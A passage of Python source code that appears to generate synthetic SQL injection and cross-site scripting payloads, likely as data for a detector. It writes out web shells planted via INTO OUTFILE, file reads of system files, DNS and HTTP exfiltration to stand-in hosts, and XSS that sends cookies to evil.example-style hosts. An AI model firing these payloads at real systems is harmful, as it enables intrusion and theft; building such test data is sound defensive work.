            (f"ATTACH DATABASE '/tmp/{d.pick(['x', 'pwn', 'dump'])}.db' AS {d.pick(['x', 'p'])}", 2),
            ("SELECT load_extension('/tmp/x.so')", 1), (f"DROP TABLE IF EXISTS {t}", 1),
            ("PRAGMA writable_schema=1", 0.5)])
    return d.wpick([(f"BEGIN EXECUTE IMMEDIATE 'DROP TABLE {t}'; END;", 1),
                    (f"BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO {new_user}'; END;", 1)] + common[:3])


@family("sqli", "stacked_queries")
def sqli_stacked(d):
    dialect = pick_dialect(d, [("mysql", 25), ("mssql", 35), ("pg", 25), ("sqlite", 12),
                                ("oracle", 3)])
    ctx = breakout(d, dialect, [("num", 4), ("sq", 5), ("dq", 0.7), ("paren", 1.5)])
    stmts = [stacked_statement(d, dialect)]
    if d.chance(0.15):
        stmts.append(stacked_statement(d, dialect))
    body = ";" + ";".join(stmts)
    if d.chance(0.25):
        body = "; " + body[1:]
    end = terminator(d, dialect) if (ctx.kind != "num" or d.chance(0.5)) else d.pick(["", ";"])
    if end.startswith(";") and body.endswith(";"):
        end = end[1:]
    return sqli(d, dialect, ctx, body, end)


@family("sqli", "string_construction")
def sqli_string_construction(d):
    dialect = pick_dialect(d)
    ctx = breakout(d, dialect)
    d.note("built_literal")
    s = d.pick(USERNAMES + TABLES[:8] + ["a", "x", "abc", "1", "true"])
    lit = built_literal(d, s, dialect)
    ucol = d.pick(USER_COLS)
    shape = d.wpick([("match", 4), ("tautology", 3), ("union", 2), ("like", 1), ("exists", 1)])
    if shape == "match":
        cond = f"{ucol}={lit}"
        return cond_payload(d, dialect, ctx, or_word(d, dialect), cond)
    if shape == "tautology":
        cond = d.pick([f"{lit}={lit}", f"{lit}='{s}'", f"'{s}'={lit}", f"{lit} LIKE '{s[0]}%'"])
        return cond_payload(d, dialect, ctx, or_word(d, dialect), cond)
    if shape == "like":
        if dialect == "mysql":
            pat = f"CONCAT(0x25,{lit},0x25)"
        elif dialect == "mssql":
            pat = f"CHAR(37)+{lit}+CHAR(37)"
        else:
            pat = f"CHR(37)||{lit}||CHR(37)" if dialect != "sqlite" else f"char(37)||{lit}||char(37)"
        return cond_payload(d, dialect, ctx, or_word(d, dialect), f"{ucol} LIKE {pat}")
    if shape == "exists":
        t = d.pick(TABLES)
        return cond_payload(d, dialect, ctx, and_word(d, dialect),
                            f"EXISTS(SELECT 1 FROM {t} WHERE {ucol}={lit})")
    n = d.randint(1, 6)
    cols = [d.pick(["NULL", str(i + 1)]) for i in range(n)]
    cols[d.randint(0, n - 1)] = lit
    body = f"{union_kw(d, dialect)} " + ",".join(cols) + (" FROM dual" if dialect == "oracle" else "")
    return sqli(d, dialect, ctx, body, terminator(d, dialect) if ctx.kind != "num" else "")


@family("sqli", "file_and_oob")
def sqli_file_oob(d):
    dialect = pick_dialect(d, [("mysql", 40), ("mssql", 25), ("pg", 18), ("oracle", 12),
                                ("sqlite", 5)])
    ctx = breakout(d, dialect)
    path = d.pick(FILES_READ)
    host = d.pick(OOB_HOSTS)
    sub = scalar(d, dialect, 0.5)
    web = d.pick(["/var/www/html", "/var/www", "/usr/share/nginx/html", "C:\\inetpub\\wwwroot",
                  "/srv/http", "/var/www/html/uploads"])
    shell = d.pick(["s", "x", "cmd", "shell", "up", "b"])
    sep = "\\" if web.startswith("C:") else "/"
    php = d.pick(['<?php system($_GET["c"]); ?>', "<?php eval($_POST[1]);?>",
                  '<?=`$_GET[x]`?>', "<?php passthru($_REQUEST['cmd']); ?>"])
    pad = ",".join(["NULL"] * d.randint(0, 3))
    pad = ("," + pad) if pad else ""
    end = terminator(d, dialect) if ctx.kind != "num" or d.chance(0.3) else ""
    if dialect == "mysql":
        lit = literal(d, path.replace("\\", "\\\\"), dialect, 0.35)
        shape = d.wpick([("read", 4), ("outfile", 3), ("dns", 2), ("infile", 1)])
        if shape == "read":
            body = d.pick([f"{union_kw(d, dialect)} LOAD_FILE({lit}){pad}",
                           f"AND ascii(substr(LOAD_FILE({lit}),1,1))>{d.randint(40, 120)}",
                           f"{union_kw(d, dialect)} 1,LOAD_FILE({lit}){pad}"])
        elif shape == "outfile":
            payload = d.pick([f"'{php}'", "0x" + sql_hex(php)])
            kw = d.pick(["OUTFILE", "OUTFILE", "DUMPFILE"])
            body = f"{union_kw(d, dialect)} {payload}{pad} INTO {kw} '{web}{sep}{shell}.php'".replace("\\", "\\\\")
        elif shape == "dns":
            body = d.pick([f"AND LOAD_FILE(CONCAT('\\\\\\\\',{sub},'.{host}\\\\a'))",
                           f"{union_kw(d, dialect)} LOAD_FILE(CONCAT(0x5c5c5c5c,{sub},'.{host}\\\\x')){pad}"])
        else:
            body = f";LOAD DATA INFILE '{path}' INTO TABLE {d.pick(TABLES)}".replace("\\", "\\\\")
        return sqli(d, dialect, ctx, body, end)
    if dialect == "mssql":
        body = d.wpick([
            (f";EXEC master..xp_dirtree '\\\\{host}\\{d.pick(['a', 'x', 'share'])}'", 3),
            (f";EXEC master..xp_fileexist '\\\\{host}\\a'", 1),
            (f";EXEC master..xp_subdirs '\\\\{d.pick(ATTACKER_IPS)}\\x'", 1),
            (f";DECLARE @h VARCHAR(200);SELECT @h={sub};EXEC('master..xp_dirtree ''\\\\'+@h+'.{host}\\a''')", 2),
            (f"{union_kw(d, dialect)} BulkColumn{pad} FROM OPENROWSET(BULK '{path}',SINGLE_CLOB) x", 2),
            (f";BULK INSERT {d.pick(TABLES)} FROM '{path}'", 1),
            (f";SELECT * FROM OPENROWSET('SQLOLEDB','Network=DBMSSOCN;Address={d.pick(ATTACKER_IPS)},443;uid=sa;pwd=x','SELECT 1')", 1)])
        return sqli(d, dialect, ctx, body, end)
    if dialect == "pg":
        body = d.wpick([
            (f"{union_kw(d, dialect)} pg_read_file('{path}'){pad}", 3),
            (f"{union_kw(d, dialect)} pg_read_file('{path}',0,{d.randint(100, 4000)}){pad}", 1),
            (f"{union_kw(d, dialect)} string_agg(f,',') FROM pg_ls_dir('{d.pick(['.', '/', '/etc', '/tmp'])}') f", 1),
            (f";COPY {d.pick(TABLES)} FROM '{path}'", 2),
            (f";COPY (SELECT {sub}) TO '/tmp/{shell}.txt'", 1),
            (f"AND lo_import('{path}')>0", 1),
            (f";SELECT dblink_connect('host={host} user=x password=y dbname=z')", 1),
            (f"AND (SELECT dblink_connect('host='||{sub}||'.{host} user=a dbname=b')) IS NULL", 1)])
        return sqli(d, dialect, ctx, body, end)
    if dialect == "oracle":
        expr = d.wpick([(f"UTL_HTTP.REQUEST('http://{host}/'||{sub})", 3),
                        (f"UTL_INADDR.GET_HOST_ADDRESS({sub}||'.{host}')", 2),
                        (f"DBMS_LDAP.INIT({sub}||'.{host}',80)", 1),
                        (f"HTTPURITYPE('http://{host}/'||{sub}).GETCLOB()", 1)])
        if d.chance(0.5) and ctx.kind != "num":
            n = d.randint(1, 4)
            cols = ["NULL"] * n
            cols[d.randint(0, n - 1)] = expr
            return sqli(d, dialect, ctx, f"{union_kw(d, dialect)} " + ",".join(cols) + " FROM dual", end)
        return cond_payload(d, dialect, ctx, "AND", f"{expr} IS NOT NULL")
    x = d.pick(["s", "x", "pwn"])
    body = d.pick([
        f";ATTACH DATABASE '{web}/{shell}.php' AS {x};CREATE TABLE {x}.p (d TEXT);INSERT INTO {x}.p VALUES ('{php.replace(chr(39), chr(39) * 2)}')",
        f"{union_kw(d, dialect)} readfile('{path}'){pad}",
        f"AND load_extension('/tmp/{shell}.so')",
        f";ATTACH DATABASE '/tmp/{shell}.db' AS {x}"])
    return sqli(d, dialect, ctx, body, end)



# --------------------------------------------------------------------------------------------
# XSS
# --------------------------------------------------------------------------------------------

XSS_HOSTS = ["evil.example", "attacker.example", "x.test", "203.0.113.7", "198.51.100.23",
             "xss.evil.test", "cdn.attacker.example", "hook.example.net"]


def b64(s):
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


def js_action(d):
    """The script an XSS payload runs: proof-of-concept dialogs, cookie theft, loaders."""
    host = d.pick(XSS_HOSTS)
    simple = d.pick(["alert(1)", "alert(document.domain)", "confirm(1)", "prompt(1)",
                     "alert(document.cookie)"])
    return d.wpick([
        ("alert(1)", 22), ("alert(document.domain)", 6), ("alert(document.cookie)", 6),
        ("confirm(1)", 4), ("prompt(1)", 4), ("alert`1`", 3), ("print()", 2),
        (f"alert({d.randint(0, 9999)})", 4), ("alert('XSS')", 4), ('alert("XSS")', 2),
        ("alert(/XSS/)", 2), ("alert(String.fromCharCode(88,83,83))", 2), ("confirm`1`", 1),
        ("alert(origin)", 1), ("alert(window.origin)", 1),
        (f"fetch('//{host}/c?'+document.cookie)", 3),
        (f"new Image().src='//{host}/l?c='+document.cookie", 3),
        (f"location='//{host}/?'+document.cookie", 2),
        (f"document.location='https://{host}/steal?c='+escape(document.cookie)", 2),
        (f"eval(atob('{b64(simple)}'))", 2), ("top['al'+'ert'](1)", 2),
        ("window['alert'](document.domain)", 1), ("self[`alert`](1)", 1), ("(alert)(1)", 1),
        ("[1].find(alert)", 1), ("[1].map(alert)", 0.5), ("setTimeout('alert(1)')", 1),
        ("Function('alert(1)')()", 1), ("setTimeout(alert,0,document.domain)", 0.5),
        (f"import('//{host}/x.js')", 1), (f"navigator.sendBeacon('//{host}/b',document.cookie)", 1),
        ("eval(location.hash.slice(1))", 1), ("eval(name)", 0.5),
        (f"top[{int('alert', 36)}..toString(36)](1)", 1), ("onerror=alert;throw 1", 1),
        ("alert?.(1)", 0.5),
        (f"with(document)body.appendChild(createElement('script')).src='//{host}/x.js'", 1),
        (f"document.write('<script src=//{host}/x.js></scr'+'ipt>')", 0.7),
        ("eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in simple) + "))", 1),
        (f"window.open('//{host}/?'+document.cookie)", 0.5),
        ("alert(localStorage.getItem('token'))", 0.5), (f"$.getScript('//{host}/x.js')", 0.5),
        (f"fetch('/api/user').then(r=>r.text()).then(t=>fetch('//{host}/?d='+btoa(t)))", 0.5),
    ])


def xcase_style(d):
    if not hasattr(d, "xcase"):
        d.xcase = d.wpick([("lower", 75), ("upper", 8), ("mixed", 12), ("title", 5)])
        if d.xcase != "lower":
            d.note("case_" + d.xcase)
    return d.xcase


def xname(d, name):
    style = xcase_style(d)
    if style == "upper":
        return name.upper()
    if style == "title":
        return name[:1].upper() + name[1:]
    if style == "mixed":
        return "".join(c.upper() if d.chance(0.5) else c.lower() for c in name)
    return name


def attr_sep(d, first):
    sep = d.wpick([(" ", 82), ("/", 8 if first else 2), ("\t", 2.5), ("\n", 2.5), ("\x0c", 1),
                   ("  ", 1.5), ("\r", 0.3), (" /", 0.5)])
    if sep != " ":
        d.note("tag_separator")
    return sep


def attr_value(d, v):
    if any(c in " \t\n>" for c in v) or v[:1] in "'\"`":
        if '"' in v and "'" in v:
            return '"' + v.replace('"', "&quot;") + '"'
        if '"' in v:
            return "'" + v + "'"
        if "'" in v:
            return '"' + v + '"'
        q = d.pick(['"', '"', "'"])
        return q + v + q
    q = d.wpick([("", 55), ('"', 30), ("'", 13)])
    if q and q in v:
        q = ""
    return q + v + q


def tag(d, name, attrs=(), close=">"):
    """An opening tag with its attributes (value None: a bare attribute) in this draw's style."""
    s = "<" + xname(d, name)
    unquoted = False  # whether the last attribute has an unquoted value, which a '/' would extend
    for i, (an, av) in enumerate(attrs):
        sep = attr_sep(d, i == 0)
        if unquoted and sep.startswith("/"):
            sep = " " + sep
        s += sep + xname(d, an)
        unquoted = False
        if av is not None:
            eq = "=" if not d.chance(0.03) else d.pick([" = ", " =", "= "])
            value = attr_value(d, av)
            s += eq + value
            unquoted = value[:1] not in ("'", '"')
    if unquoted and close.startswith("/>"):
        close = " " + close
    return s + close


def end_tag(d, name):
    return "</" + xname(d, name) + ">"


def with_handler(d, base_attrs, event, act):
    """Puts the event handler before or after the tag's other attributes."""
    attrs = list(base_attrs)
    at = len(attrs) if d.chance(0.75) else d.randint(0, len(attrs))
    attrs.insert(at, (event, act))
    return attrs


def generic_payload(d, act=None):
    """A short executable tag, as pasted after breaking out of an attribute or element."""
    act = act or js_action(d)
    host = d.pick(XSS_HOSTS)
    kind = d.wpick([("script", 4), ("img", 5), ("svg", 5), ("iframe", 1.5), ("body", 1),
                    ("details", 1), ("input", 1.5), ("video", 0.7), ("a", 0.7), ("script_src", 1),
                    ("marquee", 0.3)])
    if kind == "script":
        return tag(d, "script") + act + end_tag(d, "script")
    if kind == "script_src":
        return tag(d, "script", [("src", f"//{host}/x.js")]) + end_tag(d, "script")
    if kind == "img":
        return tag(d, "img", with_handler(d, [("src", d.pick(["x", "1", "#", "x.png"]))], "onerror", act))
    if kind == "svg":
        return tag(d, "svg", [("onload", act)])
    if kind == "iframe":
        return tag(d, "iframe", [("src", "javascript:" + act)]) + d.pick(["", end_tag(d, "iframe")])
    if kind == "body":
        return tag(d, "body", [(d.pick(["onload", "onpageshow"]), act)])
    if kind == "details":
        return tag(d, "details", with_handler(d, [("open", None)], "ontoggle", act))
    if kind == "input":
        return tag(d, "input", with_handler(d, [("autofocus", None)], "onfocus", act))
    if kind == "video":
        return tag(d, "video") + tag(d, "source", [("onerror", act)]) + d.pick(["", end_tag(d, "video")])
    if kind == "a":
        return tag(d, "a", [("href", "javascript:" + act)]) + d.pick(["click", "x", "Click me"]) + end_tag(d, "a")
    return tag(d, "marquee", [("onstart", act)]) + d.pick(["", "x" + end_tag(d, "marquee")])


XSS_ENCODINGS = [("raw", 62), ("browser", 7), ("js", 6), ("php", 3), ("full", 1), ("double", 4),
                 ("double_partial", 2), ("unicode", 2), ("entity_escaped", 2.5),
                 ("js_unicode", 3), ("js_hex", 2), ("mixed", 4)]


def xss(d, text):
    """Encodes a finished XSS payload (mostly left raw)."""
    mode = d.wpick(XSS_ENCODINGS)
    fits = all(raw_ok(ch) for ch in text)
    if mode == "raw":
        if fits:
            return text
        mode = "ctrl"
    lower = d.chance(0.3)
    if mode == "entity_escaped":
        d.note("enc_html_entity_escaped")
        text = (text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
                .replace("'", "&#39;"))
        return text if all(raw_ok(ch) for ch in text) else url_encode(text, "ctrl", lower)
    if mode in ("js_unicode", "js_hex"):
        d.note("enc_" + mode)
        out = []
        for ch in text:
            if ch in "<>\"'" or not raw_ok(ch) or ch == "\t":
                if mode == "js_hex" and ord(ch) < 0x100:
                    out.append(("\\x{:02x}" if lower else "\\x{:02X}").format(ord(ch)))
                else:
                    out.append(("\\u{:04x}" if lower else "\\u{:04X}").format(ord(ch)))
            else:
                out.append(ch)
        return "".join(out)
    if mode == "mixed":
        d.note("enc_url_mixed")
        chosen = {ch for ch in "<>\"'() /" if d.chance(0.5)} or {"<"}
        return encode_where(text, lambda ch: ch in chosen or not raw_ok(ch), lower)
    d.note("enc_url_" + mode)
    return url_encode(text, mode, lower)


@family("xss", "script_tag")
def xss_script_tag(d):
    act = js_action(d)
    host = d.pick(XSS_HOSTS)
    src = d.pick([f"//{host}/x.js", f"https://{host}/a.js", f"http://{host}:8080/hook.js",
                  f"//{host}", f"https://{host}/payload.js?v={d.randint(1, 99)}", f"/\\{host}/x.js"])
    shape = d.wpick([("inline", 8), ("src", 4), ("unclosed", 1.5), ("data_src", 1), ("typed", 1.5),
                     ("module", 0.5), ("break_script", 1), ("comment_wrap", 0.7),
                     ("selfclose_src", 0.5), ("spaced", 0.8), ("attrs_junk", 0.7)])
    d.note("shape_" + shape)
    close = end_tag(d, "script")
    if shape == "inline":
        return xss(d, tag(d, "script") + act + close)
    if shape == "src":
        extra = d.pick([[], [], [("defer", None)], [("async", None)], [("crossorigin", None)],
                        [("charset", "utf-8")]])
        return xss(d, tag(d, "script", [("src", src)] + extra) + close)
    if shape == "unclosed":
        return xss(d, tag(d, "script") + act + d.pick(["//", "", "<!--", "/*", ";//"]))
    if shape == "data_src":
        data = d.pick(["data:text/javascript," + act, "data:," + act,
                       "data:text/javascript;base64," + b64(act), "data:application/javascript," + act])
        return xss(d, tag(d, "script", [("src", data)]) + close)
    if shape == "typed":
        t = d.pick([("type", "text/javascript"), ("type", "application/javascript"),
                    ("language", "javascript"), ("type", "text/ecmascript"),
                    ("language", "JavaScript1.2"), ("type", "module")])
        return xss(d, tag(d, "script", [t]) + act + close)
    if shape == "module":
        return xss(d, tag(d, "script", [("type", "module")]) + f"import('{src}')" + close)
    if shape == "break_script":
        return xss(d, d.pick(["</script>", "</SCRIPT>", "</script >", "';</script>", "\"</script>"])
                   + tag(d, "script") + act + close)
    if shape == "comment_wrap":
        return xss(d, tag(d, "script") + d.pick(["<!--", "/*<!--*/", "//<![CDATA["]) + act +
                   d.pick(["//-->", "//]]>", "-->"]) + close)
    if shape == "selfclose_src":
        return xss(d, tag(d, "script", [("src", src)], close=d.pick([" />", "/>", ">"])))
    if shape == "spaced":
        return xss(d, "<" + xname(d, "script") + d.pick([" ", "\t", "\n", "  ", "/", "/x"]) + ">" +
                   act + "</" + xname(d, "script") + d.pick([" ", "\t", "\n", " x", ""]) + ">")
    junk = d.pick([[("x", None)], [("id", "s")], [("nonce", "abc")], [("a", "b"), ("c", "d")],
                   [("class", "x")]])
    return xss(d, tag(d, "script", junk) + act + close)


@family("xss", "media_handlers")
def xss_media_handlers(d):
    act = js_action(d)
    host = d.pick(XSS_HOSTS)
    bad_src = d.pick(["x", "1", "#", "/", "x.png", "//" + host + "/404.gif", "data:,", "?",
                      "/nonexistent.jpg", "a"])
    kind = d.wpick([("img", 10), ("image", 1), ("input_image", 1), ("video_source", 2),
                    ("video", 1.5), ("audio", 1.5), ("object", 1), ("iframe", 2), ("body", 2.5),
                    ("svg", 6), ("style", 1), ("link", 1), ("picture", 0.7), ("frameset", 0.5),
                    ("img_onload", 1), ("img_bare_src", 1.5), ("track", 0.5)])
    d.note("tag_" + kind)
    if kind == "img":
        t = tag(d, "img", with_handler(d, [("src", bad_src)], "onerror", act))
    elif kind == "img_bare_src":
        t = tag(d, "img", with_handler(d, [("src", None)], "onerror", act))
    elif kind == "image":
        t = tag(d, "image", with_handler(d, [("src", bad_src)], "onerror", act))
    elif kind == "input_image":
        t = tag(d, "input", with_handler(d, [("type", "image"), ("src", bad_src)], "onerror", act))
    elif kind == "video_source":
        t = tag(d, "video") + tag(d, "source", with_handler(d, [("src", bad_src)] if d.chance(0.4) else [], "onerror", act)) + d.pick(["", end_tag(d, "video")])
    elif kind == "video":
        t = tag(d, "video", with_handler(d, [("src", bad_src)], "onerror", act))
    elif kind == "audio":
        if d.chance(0.6):
            t = tag(d, "audio", with_handler(d, [("src", bad_src)], "onerror", act))
        else:
            t = tag(d, "audio", [("controls", None), ("autoplay", None), (d.pick(["onloadstart", "onplay", "oncanplay"]), act)]) + tag(d, "source", [("src", f"//{host}/a.mp3")])
    elif kind == "object":
        t = tag(d, "object", with_handler(d, [("data", bad_src)], "onerror", act))
    elif kind == "iframe":
        attrs = d.pick([[], [("src", "about:blank")], [("src", "//" + host)], [("srcdoc", "x")]])
        t = tag(d, "iframe", with_handler(d, attrs, "onload", act)) + d.pick(["", end_tag(d, "iframe")])
    elif kind == "body":
        t = tag(d, "body", [(d.pick(["onload", "onload", "onpageshow", "onfocus", "onresize", "onhashchange", "onmessage"]), act)])
    elif kind == "svg":
        t = tag(d, "svg", with_handler(d, d.pick([[], [], [("xmlns", "http://www.w3.org/2000/svg")], [("width", "1")]]), "onload", act), close=d.pick([">", ">", ">", "/>", "//"]))
    elif kind == "style":
        t = tag(d, "style", [("onload", act)]) + end_tag(d, "style")
    elif kind == "link":
        t = tag(d, "link", with_handler(d, [("rel", "stylesheet"), ("href", f"//{host}/x.css")], "onload", act))
    elif kind == "picture":
        t = "<picture>" + tag(d, "source", [("srcset", "x")]) + tag(d, "img", [("src", bad_src), ("onerror", act)]) + "</picture>"
    elif kind == "frameset":
        t = tag(d, "frameset", [("onload", act)])
    elif kind == "track":
        t = tag(d, "video", [("src", f"//{host}/v.mp4")]) + tag(d, "track", [("src", bad_src), ("default", None), ("onerror", act)])
    else:
        t = tag(d, "img", [("src", "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"), ("onload", act)])
    return xss(d, t)


MOUSE_EVENTS = ["onmouseover", "onmouseenter", "onmousemove", "onmousedown", "onmouseup",
                "onclick", "ondblclick", "onmouseout", "onmouseleave", "onpointerover",
                "onpointerenter", "onpointerdown", "onpointermove", "onpointerup", "onauxclick",
                "oncontextmenu", "onwheel", "ontouchstart", "ontouchend", "ontouchmove",
                "onpointerleave", "onpointerout"]
INPUT_EVENTS = ["onkeydown", "onkeyup", "onkeypress", "oninput", "onchange", "onselect",
                "onbeforeinput", "oncopy", "oncut", "onpaste", "onselectstart", "onbeforecopy"]
DRAG_EVENTS = ["ondrag", "ondragstart", "ondragend", "ondragenter", "ondragover", "ondrop"]
GENERIC_TAGS = ["div", "a", "p", "span", "b", "x", "xss", "h1", "button", "label", "li",
                "section", "marquee", "abbr", "i", "u", "em", "x-y", "custom-tag", "td", "html",
                "article", "nav", "strong", "font", "center", "blink"]
ANIMATION_EVENTS = ["onanimationstart", "onanimationend", "onanimationiteration",
                    "onwebkitanimationstart", "ontransitionend", "ontransitionrun",
                    "ontransitionstart"]
WINDOW_EVENTS = ["onbeforeprint", "onafterprint", "onpagehide", "onpopstate", "onmessage",
                 "onbeforeunload", "onunload", "onhashchange", "onoffline", "ononline",
                 "onstorage", "onblur", "onfocus", "onresize", "onscroll", "onpageshow"]


@family("xss", "interactive_handlers")
def xss_interactive_handlers(d):
    act = js_action(d)
    text = d.pick(["", "", "x", "click me", "hover", "test", "Click here", "move", "XSS", "a"])
    kind = d.wpick([("focus", 6), ("mouse", 8), ("details", 3), ("input", 3), ("drag", 1),
                    ("animation", 2), ("window", 2), ("marquee", 1), ("form", 1.5),
                    ("scroll", 1), ("blur", 1), ("media", 1)])
    d.note("events_" + kind)
    if kind == "focus":
        el = d.pick(["input", "input", "select", "textarea", "button", "keygen", "a", "div", "iframe"])
        ev = d.pick(["onfocus", "onfocus", "onfocusin"])
        base = [("autofocus", None)]
        if el in ("a", "div"):
            base = [("tabindex", "1")] + base + d.pick([[], [("contenteditable", None)]])
        if el == "a":
            base = [("href", "#")] + base
        t = tag(d, el, with_handler(d, base, ev, act))
        if el in ("select", "textarea", "button", "a", "div") and d.chance(0.5):
            t += text + end_tag(d, el)
    elif kind == "blur":
        el = d.pick(["input", "textarea", "select"])
        t = tag(d, el, with_handler(d, [("autofocus", None)], d.pick(["onblur", "onfocusout"]), act)) + tag(d, "input", [("autofocus", None)])
    elif kind == "mouse":
        el = d.pick(GENERIC_TAGS)
        ev = d.pick(MOUSE_EVENTS)
        extra = d.pick([[], [], [], [("style", "position:fixed;top:0;left:0;width:100%;height:100%")],
                        [("style", "display:block;width:9999px;height:9999px")], [("id", "x")]])
        t = tag(d, el, with_handler(d, extra, ev, act)) + text
        if d.chance(0.6):
            t += end_tag(d, el)
    elif kind == "details":
        base = [("open", None)] if d.chance(0.8) else [("open", None), ("id", "d")]
        t = tag(d, "details", with_handler(d, base, "ontoggle", act))
        if d.chance(0.4):
            t += tag(d, "summary") + text + end_tag(d, "summary") + end_tag(d, "details")
    elif kind == "input":
        ev = d.pick(INPUT_EVENTS)
        el = d.pick(["input", "textarea", "div"])
        base = [("contenteditable", None)] if el == "div" else d.pick([[], [("autofocus", None)], [("value", "x")]])
        t = tag(d, el, with_handler(d, base, ev, act))
        if el != "input" and d.chance(0.5):
            t += text + end_tag(d, el)
    elif kind == "drag":
        el = d.pick(["div", "a", "img", "p"])
        t = tag(d, el, with_handler(d, [("draggable", "true")], d.pick(DRAG_EVENTS), act)) + text
    elif kind == "animation":
        ev = d.pick(ANIMATION_EVENTS)
        name = d.pick(["x", "spin", "fade", "a", "pulse"])
        if "transition" in ev:
            t = tag(d, "style") + f"#{name}{{transition:outline 1s}}#{name}:focus{{outline:1px solid}}" + end_tag(d, "style") + tag(d, "a", with_handler(d, [("id", name), ("tabindex", "1"), ("autofocus", None)], ev, act))
        else:
            t = tag(d, "style") + f"@keyframes {name}{{}}" + end_tag(d, "style") + tag(d, d.pick(["div", "xss", "p", "b"]), with_handler(d, [("style", f"animation-name:{name}")], ev, act))
            if d.chance(0.5):
                t += end_tag(d, "div") if "<div" in t.lower() else ""
    elif kind == "window":
        el = d.pick(["body", "body", "svg", "frameset"])
        t = tag(d, el, [(d.pick(WINDOW_EVENTS), act)])
    elif kind == "marquee":
        t = tag(d, "marquee", with_handler(d, d.pick([[], [("loop", "1")], [("width", "1")], [("behavior", "alternate")]]), d.pick(["onstart", "onbounce", "onfinish"]), act)) + text + d.pick(["", end_tag(d, "marquee")])
    elif kind == "form":
        shape = d.pick(["submit", "invalid", "search", "reset"])
        if shape == "submit":
            t = tag(d, "form", [("onsubmit", act)]) + tag(d, "input", [("type", "submit")]) + end_tag(d, "form")
        elif shape == "invalid":
            t = tag(d, "form") + tag(d, "input", with_handler(d, [("required", None)], "oninvalid", act)) + tag(d, "input", [("type", "submit")])
        elif shape == "search":
            t = tag(d, "input", with_handler(d, [("type", "search")], "onsearch", act))
        else:
            t = tag(d, "form", [("onreset", act)]) + tag(d, "input", [("type", "reset")])
    elif kind == "scroll":
        el = d.pick(["div", "body", "section"])
        t = tag(d, el, with_handler(d, [("style", "overflow:auto;height:" + str(d.randint(10, 80)) + "px")], "onscroll", act)) + "<br>" * d.randint(2, 30) + tag(d, "input", [("autofocus", None)])
    else:
        el = d.pick(["video", "audio"])
        t = tag(d, el, with_handler(d, [("src", f"//{d.pick(XSS_HOSTS)}/a.{'mp4' if el == 'video' else 'mp3'}"), ("autoplay", None)], d.pick(["onplay", "oncanplay", "onloadeddata", "ontimeupdate", "onended", "onplaying", "onprogress"]), act))
    return xss(d, t)


def js_url(d, act=None):
    """A javascript:/vbscript:/data: URL that runs script when navigated to."""
    act = act or js_action(d)
    kind = d.wpick([("js", 14), ("js_comment_nl", 1.5), ("js_void", 1), ("js_spaced", 1),
                    ("vbscript", 1.2), ("data_html", 2), ("data_b64", 1.5), ("data_svg", 0.7),
                    ("js_block_comment", 1)])
    d.note("url_" + kind)
    scheme = d.wpick([("javascript:", 10), ("JavaScript:", 1), ("JAVASCRIPT:", 1),
                      ("jAvAsCrIpT:", 1), ("Javascript:", 0.5)])
    if kind == "js":
        return scheme + act
    if kind == "js_comment_nl":
        return scheme + "//" + d.pick(["%0a", "%0A", "%0d%0a", "%E2%80%A8", "\n"]) + act
    if kind == "js_void":
        return scheme + d.pick(["void(0);", "0;", "/**/", "//x%0a"]) + act
    if kind == "js_spaced":
        return d.pick([" ", "  ", "\t", "\x01", "\x0b"]) + scheme + act
    if kind == "js_block_comment":
        return scheme + "/*" + d.pick(["", "-->", "x", "</script>"]) + "*/" + act
    if kind == "vbscript":
        return d.pick(["vbscript:", "VBScript:", "vbs:"]) + d.pick(["msgbox(1)", "MsgBox(\"XSS\")", "alert(1)", "Execute(\"MsgBox 1\")"])
    if kind == "data_html":
        body = generic_payload(d, act) if d.chance(0.5) else "<script>" + act + "</script>"
        return d.pick(["data:text/html,", "data:text/html;charset=utf-8,", "data:text/html;,", "DATA:text/html,"]) + body
    if kind == "data_b64":
        return "data:text/html;base64," + b64("<script>" + act + "</script>" if d.chance(0.6) else generic_payload(d, act))
    return "data:image/svg+xml;base64," + b64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{act.replace(chr(34), chr(39))}"/>')


@family("xss", "script_urls")
def xss_script_urls(d):
    act = js_action(d)
    url = js_url(d, act)
    carrier = d.wpick([("bare", 3), ("a", 6), ("iframe", 4), ("form", 1.5), ("formaction", 1.5),
                       ("object", 1.5), ("embed", 1.5), ("meta", 1.5), ("area", 0.5),
                       ("frame", 0.5), ("input_formaction", 0.7), ("a_target", 0.7),
                       ("img_src", 0.5)])
    d.note("carrier_" + carrier)
    text = d.pick(["click", "x", "Click me", "XSS", "link", "here", "", "Login"])
    if carrier == "bare":
        return xss(d, url)
    if carrier == "a":
        t = tag(d, "a", [("href", url)]) + text + d.pick([end_tag(d, "a"), end_tag(d, "a"), ""])
    elif carrier == "a_target":
        t = tag(d, "a", [("href", url), ("target", d.pick(["_blank", "_top", "x"]))]) + text + end_tag(d, "a")
    elif carrier == "iframe":
        t = tag(d, "iframe", [("src", url)]) + d.pick(["", end_tag(d, "iframe")])
    elif carrier == "form":
        t = tag(d, "form", [("action", url)]) + tag(d, "input", [("type", "submit")]) + d.pick(["", end_tag(d, "form")])
    elif carrier == "formaction":
        t = tag(d, "form") + tag(d, "button", [("formaction", url)]) + text + end_tag(d, "button") + end_tag(d, "form")
    elif carrier == "input_formaction":
        t = tag(d, "form") + tag(d, "input", [("type", d.pick(["submit", "image"])), ("formaction", url)] + ([("src", "x")] if d.chance(0.3) else []))
    elif carrier == "object":
        t = tag(d, "object", [("data", url)]) + d.pick(["", end_tag(d, "object")])
    elif carrier == "embed":
        t = tag(d, "embed", [("src", url)])
    elif carrier == "meta":
        t = tag(d, "meta", [("http-equiv", d.pick(["refresh", "Refresh"])), ("content", d.pick(["0;url=", "0; URL=", "1;url="]) + url)])
    elif carrier == "area":
        t = tag(d, "map", [("name", "m")]) + tag(d, "area", [("shape", "rect"), ("coords", "0,0,100,100"), ("href", url)]) + end_tag(d, "map")
    elif carrier == "frame":
        t = tag(d, "frameset") + tag(d, "frame", [("src", url)])
    else:
        t = tag(d, "img", [("src", url)])
    return xss(d, t)


NAMED_ENTITIES = {":": ["&colon;"], "(": ["&lpar;"], ")": ["&rpar;"], "/": ["&sol;"],
                  ".": ["&period;"], "'": ["&apos;"], '"': ["&quot;"], ",": ["&comma;"],
